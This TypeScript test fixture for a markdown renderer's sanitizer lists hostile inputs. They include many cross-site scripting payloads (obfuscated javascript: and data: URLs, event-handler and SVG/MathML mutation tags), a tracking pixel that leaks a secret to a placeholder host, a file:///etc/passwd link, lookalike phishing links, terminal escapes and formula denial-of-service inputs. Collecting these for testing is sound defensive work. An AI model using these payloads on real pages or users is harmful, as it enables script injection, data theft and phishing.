// What content could try against the page that shows it, as data: every entry is shown at each of its prefixes, and
// passed to a trusting renderer, which the same check must catch.

import { hostileAddresses } from './hostile.ts';

export interface HostileContent {
  name: string;
  text: string;
  /** A trusting renderer does nothing bad with it either: it is included for what a cleverer one would do. */
  inert?: boolean;
}

const entry = (name: string, text: string): HostileContent => ({ name, text });
const inert = (name: string, text: string): HostileContent => ({ name, text, inert: true });

/** Each letter as a character reference. */
const entities = (text: string): string => [...text].map((letter) => `&#${letter.codePointAt(0)};`).join('');
const hexEntities = (text: string): string =>
  [...text].map((letter) => `&#x${(letter.codePointAt(0) ?? 0).toString(16)};`).join('');
const script = 'javascript:alert(1)';

const disguises: HostileContent[] = [
  entry('a script address as entities', `[a](${entities(script)})`),
  entry('a script address as hexadecimal entities', `[a](<${hexEntities(script)}>)`),
  entry('a script address with one entity', '[a](&#106;avascript:alert(1))'),
  entry('a script address with an entity for the colon', '[a](javascript&colon;alert(1))'),
  entry('a script address with a tab entity', '[a](java&Tab;script:alert(1))'),
  entry('a script address with a line entity', '[a](java&NewLine;script:alert(1))'),
  entry('a script address with a percent sign', '[a](javascript:%61lert%281%29)'),
  entry('a script address that ends a comment', '[a](javascript://%0aalert(1))'),
  entry('a script address in a reference with a title', '[a][b]\n\n[b]: javascript:alert(1) "title"'),
  entry('a script address of a collapsed reference', '[a][]\n\n[a]: <javascript:alert(1)>'),
  entry('a script address of a shortcut reference', '[a]\n\n[a]: vbscript:msgbox(1)'),
  entry('a script address in a pointed bracket', '<javascript:alert(1)>'),
  entry('a script address behind an image', '[![x](https://example.com/x.png)](javascript:alert(1))'),
  entry('a script address in a table', '| a |\n| - |\n| [x](javascript:alert(1)) |'),
  entry('a script address in a footnote', 'a[^1]\n\n[^1]: [x](javascript:alert(1))'),
  entry('a script address in a heading', '# [x](javascript:alert(1))'),
  entry('a script address in a task', '- [ ] [x](javascript:alert(1))'),
  entry('an escaped script address', '[a](\\javascript:alert\\(1\\))'),
  entry('a data address in capitals', '[a](DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'),
  entry('a data image with a script', '![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'),
  entry('a file address', '[a](file:///etc/passwd)'),
  entry('a blob address', '[a](blob:null/1)'),
  entry('an address of a share', '![a](\\\\\\\\server\\\\share\\\\x.png)'),
  entry('an address without a scheme', '![a](//example.com/pixel.png)'),
  entry('a path', '![a](/api/settings)'),
];

const html: HostileContent[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//example.com/x.js></sCrIpT>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img/src/onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x">',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><set attributeName=href to=javascript:alert(1)>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://example.com/x.swf">',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="https://example.com" onclick="alert(1)">x</a>',
  '<a href="https://example.com" ping="https://example.com/p">x</a>',
  '<form action="https://example.com"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<base href="https://example.com/">',
  '<meta http-equiv="refresh" content="0;url=https://example.com">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<link rel="stylesheet" href="https://example.com/x.css">',
  '<link rel="prefetch" href="https://example.com/x">',
  '<style>@import url(https://example.com/x.css);</style>',
  '<style>*{background:url(https://example.com/x)}</style>',
  '<div style="background:url(https://example.com/x)">x</div>',
  '<div style="position:fixed;inset:0;z-index:9999">all of the window</div>',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode="open"><img src=x onerror=alert(1)></template>',
  '<slot name="x"><img src=x onerror=alert(1)></slot>',
  '<portal src="https://example.com"></portal>',
  '<img id="throughline" name="body">',
  '<form id="root"><input name="attributes"></form>',
  '<a id="location" href="https://example.com">x</a>',
  '<img srcset="https://example.com/x 2x">',
  '<picture><source srcset="https://example.com/x"></picture>',
  '<table background="https://example.com/x"><tr><td>x</td></tr></table>',
  '<video poster="https://example.com/x"></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>',
  '<xss style="behavior:url(https://example.com/x.htc)">',
  '<x onmouseover=alert(1)>hover</x>',
  '<input type="image" src="https://example.com/x">',
  '<dialog open><iframe src="https://example.com"></iframe></dialog>',
].map((text) => entry(`HTML ${text.slice(0, 60)}`, text));

const hidden: HostileContent[] = html
  .slice(0, 8)
  .flatMap(({ text }) => [
    entry(`in a list: ${text}`, `- a\n  ${text.replaceAll('\n', ' ')}\n- b`),
    entry(`in a quote: ${text}`, `> ${text.replaceAll('\n', ' ')}`),
    entry(`in emphasis: ${text}`, `**a ${text.replaceAll('\n', ' ')} b**`),
    entry(`in the words of a link: ${text}`, `[a ${text.replaceAll('\n', ' ')}](https://example.com)`),
    entry(`in a cell: ${text}`, `| a |\n| - |\n| ${text.replaceAll('\n', ' ')} |`),
    entry(`in a note: ${text}`, `a[^n]\n\n[^n]: ${text.replaceAll('\n', ' ')}`),
  ]);

const other: HostileContent[] = [
  entry('an image that tells', '![pixel](https://tracker.example.com/p.gif?d=secret)'),
  entry('an image of a reference', '![pixel][p]\n\n[p]: https://tracker.example.com/p.gif'),
  entry('an image whose words end an attribute', '![x" onerror="alert(1)](https://example.com/x.png)'),
  entry('a title that ends an attribute', '![x](https://example.com/x.png "a\\" onerror=\\"alert(1)")'),
  inert('a link whose title ends an attribute', '[x](https://example.com "\' onclick=alert(1) \'")'),
  inert('an address that ends an attribute', '[x](<https://example.com/"onmouseover="alert(1)>)'),
  inert('a language that ends an attribute', '```" onmouseover="alert(1)\ncode\n```'),
  entry('a language that is a tag', '```<img src=x onerror=alert(1)>\ncode\n```'),
  entry('HTML as code', '```html\n<script>alert(1)</script>\n```'),
  inert('a diagram that runs', '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```'),
  inert(
    'a diagram with a callback',
    '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\ngraph TD; A-->B; click A call alert(1)\n```',
  ),
  entry('SVG as code', '```svg\n<svg onload=alert(1)></svg>\n```'),
  inert('a formula with a link', '$\\href{javascript:alert(1)}{x}$'),
  inert('a formula with an address', '$$\n\\url{javascript:alert(1)}\n$$'),
  inert('a formula with an image', '$\\includegraphics[height=1em]{https://example.com/x.png}$'),
  inert(
    'a formula with HTML',
    '$\\htmlId{root}{x}\\htmlClass{fixed}{y}\\htmlStyle{background:url(https://example.com)}{z}\\htmlData{a=b}{c}$',
  ),
  entry('a formula with a tag', '$\\text{<img src=x onerror=alert(1)>}$'),
  inert('a formula with a macro that grows', '$\\def\\a{\\a\\a}\\a$'),
  inert(
    'a formula with macros that double',
    '$\\def\\a{xx}\\def\\b{\\a\\a}\\def\\c{\\b\\b}\\def\\d{\\c\\c}\\def\\e{\\d\\d}\\e\\e\\e\\e$',
  ),
  inert('a formula that leaves its place', '$\\rule{1000em}{1000em}\\kern-1000em\\raisebox{500em}{x}\\hspace{-900em}$'),
  inert('a formula in brackets', '\\[\\href{javascript:alert(1)}{x}\\] and \\(\\url{javascript:alert(1)}\\)'),
  inert('a formula of braces', `$${'{'.repeat(60)}x${'}'.repeat(60)}$`),
  inert('words that turn around', '\u202ehttps://example.com\u202c [\u202egoogle.com](https://evil.example)'),
  inert('an address of another script', '[apple.com](https://xn--80ak6aa92e.com/)'),
  inert('an address with a name', '[bank](https://bank.example.com@evil.example/)'),
  inert('an address that another one says', '[https://bank.example.com](https://evil.example)'),
  entry('www with an attribute', 'www.example.com/"onmouseover="alert(1) and <img src=x onerror=alert(1)>'),
  inert(
    'an escape of a terminal',
    '\u001b]8;;javascript:alert(1)\u001b\\click\u001b]8;;\u001b\\ \u001b[31mred\u001b[0m',
  ),
  inert('an escape that writes the title', '\u001b]0;<img src=x onerror=alert(1)>\u0007'.replace('<img', '< img')),
  inert('letters without width', 'java\u200bscript:alert(1) <\u200bscript>'),
  inert('names of prototypes', '[__proto__]: https://example.com\n\n[__proto__] [constructor][toString] [^__proto__]'),
  inert('a definition that ends', '[a]: https://example.com "x\n\n[a] [a]: javascript:alert(1)'),
  inert('words that backtrack', `${'a'.repeat(30)}!${'\\'.repeat(12)}${'('.repeat(12)}`),
];

export const hostileContent: readonly HostileContent[] = [
  ...hostileAddresses
    .filter((address) => !address.includes('\n'))
    .map((address) => entry(`an image of ${JSON.stringify(address)}`, `![a](<${address}>)`)),
  ...disguises,
  ...html,
  ...hidden,
  ...other,
];

/** Prefixes of a text at which something may change: after each mark, and after the first letter of each word. */
export function beginnings(text: string): string[] {
  const ends = Array.from({ length: text.length }, (_, at) => at + 1);
  return ends
    .filter((end) => !/^[a-z0-9]{2}$/i.test(text.slice(end - 2, end)) || end === text.length)
    .map((end) => text.slice(0, end));
}
